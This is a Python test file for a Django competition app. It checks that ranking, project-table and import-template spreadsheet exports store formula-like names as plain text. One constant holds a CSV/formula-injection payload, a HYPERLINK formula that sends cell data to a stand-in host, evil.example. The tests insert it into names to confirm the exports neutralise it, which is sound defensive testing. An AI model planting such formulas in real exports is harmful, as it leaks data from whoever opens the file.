"""Competition exports keep typed names as text: the ranking, the 项目表 and the report
template never carry a formula, and the template's indicators read back exactly as typed."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from saidao.competitions import selectors, services
from saidao.competitions.importing import reports_parse
from saidao.competitions.models import Indicator, Participant
from saidao.competitions.tests.factories import all_verified, capacity_world
from saidao.conftest import Tree

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?x="&B2,"点我")'


def test_the_ranking_shows_hostile_names_as_text(tree: Tree) -> None:
    """A participant and an indicator named like formulas are text cells, in rows and header."""
    w = capacity_world(tree)
    Participant.objects.filter(pk=w.participants["DX"].pk).update(name=LINK)
    Indicator.objects.filter(competition=w.competition, code="wells").update(name="=1+1")
    all_verified(w)
    snapshot = services.snapshot_publish(
        actor=w.officer, snapshot=services.period_compute(actor=w.officer, period=w.period)
    )
    ws = load_workbook(io.BytesIO(selectors.ranking_xlsx(snapshot=snapshot))).worksheets[0]
    header = [c for c in ws[1] if c.value == "=1+1（口）"]
    names = [c for c in ws["C"] if c.value == LINK]
    assert len(header) == 1 and len(names) == 1
    assert all(c.data_type == "s" and not c.quotePrefix for c in header + names)


def test_the_program_table_shows_hostile_names_as_text(tree: Tree) -> None:
    """A category named like a formula is a text cell in the 项目表."""
    w = capacity_world(tree)
    w.category.name = LINK
    w.category.save(update_fields=["name"])
    ws = load_workbook(io.BytesIO(selectors.program_table_xlsx(program=w.program))).worksheets[0]
    cell = ws["A2"]
    assert (cell.value, cell.data_type) == (LINK, "s")


def test_the_template_reads_back_as_typed(tree: Tree) -> None:
    """Indicator names and units that look like formulas are text cells in the template, and
    once filled in, the import matches them exactly."""
    w = capacity_world(tree)
    Indicator.objects.filter(competition=w.competition, code="wells").update(
        name="=新井数", unit="@口"
    )
    Indicator.objects.filter(competition=w.competition, code="design").update(
        name="-5℃设计产量", unit="+吨/日"
    )
    body = services.import_template(competition=w.competition, period=w.period)
    wb = load_workbook(io.BytesIO(body))
    ws = wb.worksheets[0]
    typed = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in ("=新井数", "@口")]
    assert len(typed) == 2 and all(c.data_type == "s" for c in typed)
    for row in ws.iter_rows(min_row=2):
        row[3].value = 7  # the officer fills in every value, in a spreadsheet program
    filled = io.BytesIO()
    wb.save(filled)
    filled.seek(0)
    parsed = reports_parse(actor=w.officer, competition=w.competition, file=filled)
    assert parsed.errors == []
    assert {(r.indicator.name, r.unit) for r in parsed.rows} >= {
        ("=新井数", "@口"),
        ("-5℃设计产量", "+吨/日"),
    }
